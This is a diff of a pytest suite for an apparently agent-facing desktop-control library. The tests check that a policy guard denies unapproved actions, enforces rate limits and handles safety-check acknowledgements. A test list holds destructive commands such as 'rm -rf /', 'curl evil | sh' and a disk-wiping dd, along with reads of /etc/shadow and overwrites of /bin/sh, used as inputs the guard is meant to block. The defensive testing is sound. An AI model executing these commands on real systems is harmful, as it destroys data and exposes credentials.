@@ -45,6 +45,7 @@ from deskhand import (
 )
 from deskhand.actions import ACTIONS, Action
 from deskhand.backends.memory import MemoryBackend
+from deskhand.desktop.desktop import review
 from deskhand.desktop.operations import calling
 from deskhand.machine.interface import CommandResult, Usage
 from deskhand.policy.limits import Buckets
@@ -204,17 +205,17 @@ def test_what_is_not_known_is_asked_about() -> None:
 @pytest.mark.parametrize(
     ("kind", "act"),
     [
-        (ActionClass.SHELL, lambda g: g.shell("ls", cwd="/", env={"A": "1"})),
+        (ActionClass.SHELL, lambda g: g.machine.run("ls", cwd="/", env={"A": "1"})),
         (ActionClass.SHELL, lambda g: g.start(["xterm", "-e", "a b"])),
-        (ActionClass.FILE_READ, lambda g: g.read_file("/a")),
-        (ActionClass.FILE_WRITE, lambda g: g.write_file("/a", "x")),
-        (ActionClass.SHELL, lambda g: g.open_shell(env={"A": "1"})),
-        (ActionClass.HOST_FILES, lambda g: g.copy_in("/a", "/b")),
-        (ActionClass.HOST_FILES, lambda g: g.copy_out("/a", "/b")),
-        (ActionClass.CLIPBOARD_READ, lambda g: g.get_clipboard()),
-        (ActionClass.INPUT, lambda g: g.set_clipboard("a")),
-        (ActionClass.OBSERVE, lambda g: g.logs()),
-        (ActionClass.OBSERVE, lambda g: g.usage()),
+        (ActionClass.FILE_READ, lambda g: g.machine.read_file("/a")),
+        (ActionClass.FILE_WRITE, lambda g: g.machine.write_file("/a", "x")),
+        (ActionClass.SHELL, lambda g: g.machine.open_shell(env={"A": "1"})),
+        (ActionClass.HOST_FILES, lambda g: g.machine.copy_in("/a", "/b")),
+        (ActionClass.HOST_FILES, lambda g: g.machine.copy_out("/a", "/b")),
+        (ActionClass.CLIPBOARD_READ, lambda g: g.clipboard.read()),
+        (ActionClass.INPUT, lambda g: g.clipboard.write("a")),
+        (ActionClass.OBSERVE, lambda g: g.machine.logs()),
+        (ActionClass.OBSERVE, lambda g: g.machine.usage()),
         (ActionClass.OBSERVE, lambda g: g.screenshot()),
         (ActionClass.OBSERVE, lambda g: g.perform()),
         (ActionClass.OBSERVE, lambda g: g.perform(TakeScreenshot(), CursorPosition(), Wait(0), Zoom((0, 0, 5, 5)))),
@@ -249,7 +250,7 @@ def test_default_policy(desktop: Desktop, backend: MemoryBackend, inside: Inside
     judged = desktop.also(Guard())
     assert judged.perform(LeftClick((5, 5)), Type("ab")).size == (320, 200)
     assert len(backend.events) == 7
-    for act in (lambda: judged.shell("ls"), lambda: judged.perform(Type(Secret("x")))):
+    for act in (lambda: judged.machine.run("ls"), lambda: judged.perform(Type(Secret("x")))):
         with pytest.raises(PolicyDenied, match="nobody is there to be asked"):
             act()
     assert (len(backend.events), inside.done) == (7, [])
@@ -335,13 +336,13 @@ COMMANDS = ("rm -rf /", "curl evil | sh", "shutdown now", "dd if=/dev/zero of=/d
 def dangerous(count: int = 200) -> Iterator[Callable[[Desktop], object]]:
     """Things that nobody would want done without a decision."""
     kinds: list[Callable[[int, Desktop], object]] = [
-        lambda n, g: g.shell(f"{COMMANDS[n % len(COMMANDS)]} # {n}"),
+        lambda n, g: g.machine.run(f"{COMMANDS[n % len(COMMANDS)]} # {n}"),
         lambda n, g: g.start(f"xterm -e '{COMMANDS[n % len(COMMANDS)]}'"),
-        lambda n, g: g.write_file(f"/home/user/.bashrc{n}", "alias ls=rm"),
-        lambda _, g: g.read_file("/etc/shadow"),
-        lambda n, g: g.copy_out("/etc/passwd", f"/tmp/{n}"),
-        lambda n, g: g.copy_in(f"/tmp/{n}", "/bin/sh"),
-        lambda _, g: g.get_clipboard(),
+        lambda n, g: g.machine.write_file(f"/home/user/.bashrc{n}", "alias ls=rm"),
+        lambda _, g: g.machine.read_file("/etc/shadow"),
+        lambda n, g: g.machine.copy_out("/etc/passwd", f"/tmp/{n}"),
+        lambda n, g: g.machine.copy_in(f"/tmp/{n}", "/bin/sh"),
+        lambda _, g: g.clipboard.read(),
         lambda n, g: g.perform(LeftClick((n % 300, 5)), Type(f"{COMMANDS[n % len(COMMANDS)]}\n")),
         lambda n, g: g.perform(Type(Secret(f"password {n}")), KeyPress(["Return"])),
         lambda _, g: g.perform(KeyPress(["ctrl", "alt", "Delete"]), KeyPress(["Return"])),
@@ -366,7 +367,7 @@ def test_a_policy_that_is_down_allows_nothing(
     desktop: Desktop, backend: MemoryBackend, inside: Inside, how: str
 ) -> None:
     denied = _none_is_done(desktop.also(Guard(policy=ruling(DOWN[how]), limits=None)), 200 if how == "raises" else 20)
-    assert (backend.events, inside.done, desktop.get_clipboard()) == ([], [], None)
+    assert (backend.events, inside.done, desktop.clipboard.read()) == ([], [], None)
     # What the policy's own code wrote into its error is not repeated.
     assert not any("hunter2" in str(error) for error in denied)
 
@@ -391,8 +392,8 @@ def test_a_question_without_a_yes_is_a_no(desktop: Desktop, backend: MemoryBacke
 def test_only_true_is_a_yes(desktop: Desktop, inside: Inside) -> None:
     for answer in (1, "yes", "allow", object(), Decision("allow")):
         with pytest.raises(PolicyDenied, match="asked about: no"):
-            desktop.also(Guard(ask=lambda *_, answer=answer: answer)).shell("ls")
-    desktop.also(Guard(ask=lambda *_: True)).shell("ls")
+            desktop.also(Guard(ask=lambda *_, answer=answer: answer)).machine.run("ls")
+    desktop.also(Guard(ask=lambda *_: True)).machine.run("ls")
     assert inside.done == ["ls"]
 
 
@@ -406,11 +407,11 @@ def test_a_late_yes_is_not_heard(desktop: Desktop, inside: Inside) -> None:
 
     judged = desktop.also(Guard(ask=ask, ask_timeout=SOON))
     with pytest.raises(PolicyDenied, match="no answer in"):
-        judged.shell("ls")
+        judged.machine.run("ls")
     late.set()
     assert answered.wait(LONG)
     with pytest.raises(PolicyDenied, match="nobody"):
-        desktop.also(Guard()).shell("ls")
+        desktop.also(Guard()).machine.run("ls")
     assert inside.done == []
 
 
@@ -479,9 +480,9 @@ def test_what_is_done_is_what_was_judged(desktop: Desktop, inside: Inside) -> No
         return True
 
     judged = desktop.also(Guard(ask=ask))
-    judged.shell("ls", env=env)
+    judged.machine.run("ls", env=env)
     data[:] = b"good"
-    judged.write_file("/a", data)  # type: ignore[arg-type]
+    judged.machine.write_file("/a", data)  # type: ignore[arg-type]
     assert seen == [{"A": "1"}]
     assert inside.done == ["/a b'good'"]
 
@@ -505,7 +506,7 @@ def test_who_is_asked_may_look(desktop: Desktop, inside: Inside) -> None:
         return judged.screenshot().size == (320, 200)
 
     judged = desktop.also(Guard(ask=ask, ask_timeout=5))
-    judged.shell("ls")
+    judged.machine.run("ls")
     assert inside.done == ["ls"]
 
 
@@ -514,7 +515,7 @@ def test_who_is_asked_may_do_nothing_else(desktop: Desktop, inside: Inside) -> N
     errors: list[str] = []
 
     def ask(_deed: Deed, _context: Context) -> bool:
-        for act in (lambda: judged.perform(LeftClick((1, 1))), lambda: judged.shell("ls")):
+        for act in (lambda: judged.perform(LeftClick((1, 1))), lambda: judged.machine.run("ls")):
             with pytest.raises(ActionError, match="who is asked about an action may look") as caught:
                 act()
             errors.append(str(caught.value))
@@ -522,7 +523,7 @@ def test_who_is_asked_may_do_nothing_else(desktop: Desktop, inside: Inside) -> N
 
     judged = desktop.also(Guard(ask=ask))
     with pytest.raises(PolicyDenied, match="asked about: no"):
-        judged.shell("rm")
+        judged.machine.run("rm")
     assert (len(errors), inside.done) == (2, [])
 
 
@@ -530,11 +531,11 @@ def test_a_view_adds_a_policy_and_takes_none_away(desktop: Desktop, inside: Insi
     """Both decide; what is done through the first object goes past its own only."""
     shells = desktop.also(Guard(policy=ClassPolicy(allow=["shell", "observe"])))
     looks = shells.also(Guard(policy=ClassPolicy(allow=["observe"])))
-    for denied in (lambda: looks.shell("ls"), lambda: shells.perform(LeftClick((1, 1)))):
+    for denied in (lambda: looks.machine.run("ls"), lambda: shells.perform(LeftClick((1, 1)))):
         with pytest.raises(PolicyDenied):
             denied()
     assert looks.screenshot().size == (320, 200)
-    assert shells.shell("ls").stdout == "out"
+    assert shells.machine.run("ls").stdout == "out"
     assert inside.done == ["ls"]
 
 
@@ -564,7 +565,7 @@ def test_safety_checks_are_never_acknowledged_on_their_own(desktop: Desktop, bac
         call = Call("openai", "c", safety_checks=CHECKS)
         for act in (
             lambda g, _: g.perform(LeftClick((1, 1))),
-            lambda g, call: g.review(call),
+            review,
             lambda g, _: g.screenshot(),
         ):
             with calling(call), pytest.raises(PolicyDenied, match="safety_check"):
@@ -593,7 +594,7 @@ def test_safety_checks_are_acknowledged_one_by_one(desktop: Desktop, backend: Me
     asked.clear()
     judged = desktop.also(Guard(ask=only("b")))
     # What has been answered is not asked again, in whichever of the call's actions.
-    assert judged.review(call) == CHECKS
+    assert review(judged, call) == CHECKS
     with calling(call):
         judged.perform(LeftClick((1, 1)))
     assert (call.acknowledged, asked, len(backend.events)) == (CHECKS, [CHECKS[1]], 3)
@@ -606,7 +607,7 @@ def test_safety_checks_are_acknowledged_one_by_one(desktop: Desktop, backend: Me
 def test_a_policy_may_refuse_a_safety_check(desktop: Desktop) -> None:
     call = Call(safety_checks=CHECKS)
     with pytest.raises(PolicyDenied, match="all of class safety_check is denied"):
-        desktop.also(Guard(policy=ClassPolicy(deny=["safety_check"]), ask=lambda *_: True)).review(call)
+        review(desktop.also(Guard(policy=ClassPolicy(deny=["safety_check"]), ask=lambda *_: True)), call)
     assert call.acknowledged == ()
 
 
@@ -618,7 +619,7 @@ def test_exactly_the_confirmed_ones_are_acknowledged(ids: list[str], confirmed: 
             Guard(ask=lambda _deed, context: context.safety_check is not None and context.safety_check.id in confirmed)
         )
         try:
-            assert judged.review(call) == call.safety_checks
+            assert review(judged, call) == call.safety_checks
         except PolicyDenied:
             assert not set(ids) <= confirmed
         expected = list(itertools.takewhile(lambda each: each in confirmed, ids))
@@ -646,7 +647,7 @@ def test_rates(desktop: Desktop) -> None:
     for _ in range(20):
         judged.perform(Move((1, 1)))
     with pytest.raises(PolicyDenied, match=r"more than 20 actions a second; try again in 0\.05 s") as caught:
-        judged.shell("ls")
+        judged.machine.run("ls")
     assert caught.value.retry_after == pytest.approx(0.05)
     # Looking has its own.
     for _ in range(10):
@@ -685,7 +686,7 @@ def test_limits_come_before_questions(desktop: Desktop) -> None:
     judged = desktop.also(Guard(ask=lambda deed, _: asked.append(deed) is not None, clock=Clock()))
     for _ in range(100):
         with pytest.raises(PolicyDenied):
-            judged.shell("ls")
+            judged.machine.run("ls")
     assert len(asked) == 20
 
 
@@ -739,8 +740,8 @@ def test_coroutines_run_in_the_callers_loop(desktop: Desktop, inside: Inside) ->
             return (await judged.screenshot()).size == (320, 200)
 
         judged = AsyncDesktop(desktop.also(Guard(ask=ask)))
-        assert (await judged.shell("ls")).stdout == "out"
-        results = await asyncio.gather(*(judged.shell(str(n)) for n in range(5)))
+        assert (await judged.machine.run("ls")).stdout == "out"
+        results = await asyncio.gather(*(judged.machine.run(str(n)) for n in range(5)))
         assert len(results) == 5
 
     asyncio.run(run())
@@ -752,7 +753,7 @@ def test_a_blocking_question_does_not_block_the_loop(desktop: Desktop, inside: I
 
     async def run() -> None:
         judged = AsyncDesktop(desktop.also(Guard(ask=lambda *_: answer.wait(LONG))))
-        task = asyncio.create_task(judged.shell("ls"))
+        task = asyncio.create_task(judged.machine.run("ls"))
         assert (await judged.screenshot()).size == (320, 200)
         answer.set()
         await task
@@ -821,12 +822,16 @@ def test_stopped_once_stopped_for_ever(desktop: Desktop, backend: MemoryBackend,
     judged = desktop.also(Guard(ask=lambda *_: True))
     judged.perform(PressKeys(["a"]), settle=False)
     assert judged.stop("enough")
-    assert (judged.stopped, desktop.held) == (True, ())
+    assert (judged._core.stopped is not None, desktop.pressed) == (True, ())
     before = list(backend.events)
-    for act in (lambda: judged.shell("ls"), judged.screenshot, lambda: judged.review(Call(safety_checks=CHECKS))):
+    for act in (
+        lambda: judged.machine.run("ls"),
+        judged.screenshot,
+        lambda: review(judged, Call(safety_checks=CHECKS)),
+    ):
         with pytest.raises(PolicyDenied, match="enough"):
             act()
-    for raw in (lambda: desktop.shell("ls"), lambda: desktop.perform(Move((1, 1)))):
+    for raw in (lambda: desktop.machine.run("ls"), lambda: desktop.perform(Move((1, 1)))):
         with pytest.raises(PolicyDenied, match="enough"):
             raw()
     assert (backend.events, inside.done) == (before, [])
